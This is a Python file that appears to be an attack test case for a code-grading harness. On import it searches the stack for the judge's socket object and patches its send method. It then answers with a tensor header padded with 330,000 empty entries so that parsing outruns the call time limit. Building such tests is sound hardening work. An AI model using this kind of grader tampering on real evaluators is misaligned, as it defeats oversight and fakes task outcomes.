# /// attack
# tries = "answers its import with a third of a million tensors without bytes: 17 MiB that the judge reads for longer than a call may take"
# fails = ["matmul.*"]
# only = "matmul.forward"
# ///
# Reading one of these replies takes the judge longer than call_s; a call that long has not ended within its limit.
import json as _json
import struct as _struct
import sys as _sys


def _line():
    frame = _sys._getframe()
    while frame is not None:
        found = frame.f_locals.get("line")
        if hasattr(found, "sock"):
            return found
        frame = frame.f_back


_the = _line()
_wire = type(_the).send.__globals__["wire"]
_more = ",".join(f'"{i:x}":{{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}' for i in range(330_000))


def _send(header, tensors=None):
    payload = b""
    if not tensors:
        payload = _wire.pack_tensors({"one": torch.zeros(1)})
        (size,) = _struct.unpack("<Q", payload[:8])
        told = payload[8 : 8 + size].decode().rstrip()
        told = (told[:-1] + "," + _more + "}").encode()
        told += b" " * (-len(told) % 8)
        payload = _struct.pack("<Q", len(told)) + told + payload[8 + size :]
    head = _json.dumps(header).encode()
    _the.sock.sendall(_wire.LENGTHS.pack(len(head), len(payload)) + head + payload)


_right = type(_the).send


def _first(header, tensors=None):
    _the.__dict__.pop("send")
    _send(header, tensors)


_the.send = _first
